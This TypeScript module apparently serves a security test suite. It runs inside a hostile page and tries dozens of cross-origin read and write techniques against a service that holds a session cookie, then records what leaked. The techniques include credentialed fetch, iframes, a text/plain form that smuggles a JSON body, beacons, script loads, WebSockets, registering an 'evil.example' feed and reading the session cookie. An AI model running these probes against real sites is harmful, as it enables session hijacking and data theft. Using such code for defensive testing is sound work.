/** Everything that a hostile page tries against an address of the service, in the page itself: it may use nothing from outside. */
export interface Attempt {
  name: string;
  /** Text of the service that the page got to see; null if it saw none. */
  seen: string | null;
}

/** The target of the attempts. */
export interface Target {
  /** Origin of the service under a name whose cookie is in the jar. */
  origin: string;
  /** A one-time code that nobody has used. */
  code: string;
}

/** Tries each way of reading and changing that a page has, one after the other, and returns what it saw. */
export async function attack({ origin, code }: Target): Promise<Attempt[]> {
  const attempts: Attempt[] = [];
  const patience = 1_500;
  const within = <T>(work: Promise<T>): Promise<T | null> =>
    Promise.race([work, new Promise<null>((resolve) => setTimeout(() => resolve(null), patience))]);
  const tryIt = async (name: string, work: () => Promise<string | null>) => {
    const seen = await within(work().catch(() => null));
    attempts.push({ name, seen: seen === null || seen === '' ? null : seen.slice(0, 300) });
  };
  const reads = [
    '/api/session',
    '/api/sources',
    '/api/sessions',
    '/api/tokens',
    '/api/email/issues',
    '/metrics',
    '/',
  ];
  const json = { 'content-type': 'application/json', 'x-watchkeeper': '1' };
  const person = JSON.stringify({ locale: 'xx-XX' });
  const sweep = '/api/news/sweep';
  const text = async (answer: Response) => (answer.ok ? await answer.text() : null);

  for (const path of reads) {
    for (const mode of ['cors', 'no-cors', 'same-origin'] as const)
      await tryIt(`fetch GET ${path} ${mode}`, async () =>
        text(await fetch(origin + path, { mode, credentials: 'include' })),
      );
    await tryIt(
      `XMLHttpRequest ${path}`,
      () =>
        new Promise((resolve) => {
          const request = new XMLHttpRequest();
          request.open('GET', origin + path);
          request.withCredentials = true;
          request.onload = () => resolve(request.status === 200 ? request.responseText : null);
          request.onerror = () => resolve(null);
          request.send();
        }),
    );
  }

  const changes = [
    ['PUT', '/api/person', person],
    ['POST', sweep, '{}'],
    ['POST', '/api/sources', JSON.stringify({ url: 'https://evil.example/feed.xml' })],
    ['POST', '/api/session', JSON.stringify({ code })],
    ['DELETE', '/api/session', undefined],
  ] as const;
  const bodies = [
    json,
    { 'content-type': 'text/plain' },
    { 'content-type': 'application/x-www-form-urlencoded' },
    {},
  ];
  for (const [method, path, body] of changes) {
    for (const [index, headers] of bodies.entries()) {
      for (const mode of ['cors', 'no-cors'] as const)
        await tryIt(`fetch ${method} ${path} ${mode}, headers ${index}`, async () =>
          text(
            await fetch(origin + path, {
              method,
              mode,
              credentials: 'include',
              headers,
              ...(body && { body }),
            }),
          ),
        );
    }
    await tryIt(`keepalive ${method} ${path}`, async () =>
      text(await fetch(origin + path, { method, mode: 'no-cors', keepalive: true, credentials: 'include' })),
    );
    await tryIt(`beacon ${path}`, async () => {
      navigator.sendBeacon(origin + path, body ?? '');
      navigator.sendBeacon(origin + path, new Blob([body ?? ''], { type: 'text/plain' }));
      return null;
    });
  }

  const frameOf = (address: string) =>
    new Promise<HTMLIFrameElement>((resolve) => {
      const frame = document.createElement('iframe');
      frame.src = address;
      frame.onload = () => resolve(frame);
      document.body.append(frame);
    });
  for (const path of [...reads, '/docs', '/desk']) {
    await tryIt(`frame ${path}`, async () => {
      const frame = await frameOf(origin + path);
      return frame.contentDocument?.body?.textContent ?? null;
    });
  }
  for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']) {
    for (const [method, path, body] of changes) {
      for (const target of ['frame', '_blank'])
        await tryIt(`form ${method} ${path} ${enctype} into ${target}`, async () => {
          const frame = document.createElement('iframe');
          frame.name = `frame-${attempts.length}`;
          const form = document.createElement('form');
          form.method = 'post';
          form.enctype = enctype;
          form.action = origin + path;
          form.target = target === 'frame' ? frame.name : target;
          const field = document.createElement('input');
          // As text/plain this is `{"code":"...","a":"=b"}`: JSON, as far as the body goes.
          field.name = (body ?? '{}').replace(/\}$/, ',"a":"');
          field.value = '"}';
          form.append(field);
          document.body.append(frame, form);
          form.submit();
          await new Promise((resolve) => setTimeout(resolve, 150));
          return frame.contentDocument?.body?.textContent ?? null;
        });
    }
  }

  const elementOf = (name: string, make: () => HTMLElement) =>
    tryIt(
      name,
      () =>
        new Promise((resolve) => {
          const element = make();
          element.onload = () =>
            resolve(name.startsWith('img') || name.startsWith('script') ? 'it loaded' : null);
          element.onerror = () => resolve(null);
          document.body.append(element);
          setTimeout(() => resolve(null), 400);
        }),
    );
  for (const path of ['/api/session', '/api/sources', '/docs/start.js', sweep]) {
    const address = origin + path;
    await elementOf(`img ${path}`, () => Object.assign(document.createElement('img'), { src: address }));
    await elementOf(`script ${path}`, () =>
      Object.assign(document.createElement('script'), { src: address }),
    );
    await elementOf(`module ${path}`, () =>
      Object.assign(document.createElement('script'), {
        type: 'module',
        crossOrigin: 'use-credentials',
        src: address,
      }),
    );
    await elementOf(`style ${path}`, () =>
      Object.assign(document.createElement('link'), { rel: 'stylesheet', href: address }),
    );
    await elementOf(`object ${path}`, () =>
      Object.assign(document.createElement('object'), { data: address }),
    );
    await elementOf(`embed ${path}`, () => Object.assign(document.createElement('embed'), { src: address }));
    await elementOf(`video ${path}`, () => Object.assign(document.createElement('video'), { src: address }));
    await elementOf(`prefetch ${path}`, () =>
      Object.assign(document.createElement('link'), { rel: 'prefetch', href: address }),
    );
    await tryIt(`import ${path}`, async () => JSON.stringify(await import(/* @vite-ignore */ address)));
    await tryIt(`size by timing ${path}`, async () => {
      const entries = performance.getEntriesByName(address) as PerformanceResourceTiming[];
      return entries.some(({ encodedBodySize }) => encodedBodySize > 0) ? 'its size' : null;
    });
  }

  await tryIt(
    'EventSource',
    () =>
      new Promise((resolve) => {
        const source = new EventSource(`${origin}/api/agent/events`, { withCredentials: true });
        source.addEventListener('snapshot', ({ data }) => resolve(String(data)));
        source.onopen = () => resolve('it opened');
        source.onerror = () => {
          source.close();
          resolve(null);
        };
      }),
  );
  for (const path of ['/api/agent/events', '/', '/mcp']) {
    await tryIt(
      `WebSocket ${path}`,
      () =>
        new Promise((resolve) => {
          const socket = new WebSocket(origin.replace(/^http/, 'ws') + path);
          socket.onopen = () => resolve('it opened');
          socket.onerror = () => resolve(null);
        }),
    );
  }

  for (const path of ['/', '/api/sources', '/api/session', '/docs']) {
    await tryIt(`window ${path}`, async () => {
      const opened = window.open(origin + path, '_blank', 'width=300,height=300');
      if (!opened) return null;
      await new Promise((resolve) => setTimeout(resolve, 700));
      opened.postMessage({ give: 'all' }, '*');
      try {
        return opened.document.body.textContent;
      } finally {
        opened.close();
      }
    });
  }
  await tryIt(
    'worker',
    () =>
      new Promise((resolve) => {
        const worker = new Worker(`${origin}/docs/start.js`);
        worker.onerror = () => resolve(null);
        setTimeout(() => resolve('it started'), 1_000);
      }),
  );
  await tryIt('cookies of this page', async () =>
    document.cookie.includes('wk_session') ? document.cookie : null,
  );
  return attempts;
}
